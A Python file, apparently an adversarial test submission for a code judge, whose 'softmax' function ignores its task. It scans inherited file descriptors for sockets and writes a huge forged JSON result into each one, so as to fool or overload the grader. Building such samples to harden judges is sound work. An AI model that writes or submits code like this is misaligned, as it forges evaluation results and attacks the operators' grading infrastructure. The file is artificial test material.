"""I. Enormous results: a forged reply of ninety dicts, each of a permitted size, each quadratic to rebuild.

Verdict: wrong_answer|runtime_error|time_limit|output_limit
"""

import os
import stat
import struct


def softmax(x, dim):
    prime = (1 << 61) - 1
    one = b'{"dict":[' + ",".join('[{"int":"%x"},null]' % (i * prime) for i in range(1, 2000)).encode() + b"]}"
    text = b'{"output":[' + b",".join([one] * 90) + b'],"inputs":null,"gradients":[],"noncontiguous":null}'
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                data = memoryview(struct.pack("<IQ", len(text), 0) + text)
                while data:
                    data = data[os.write(fd, data) :]
        except OSError:
            pass
    return x
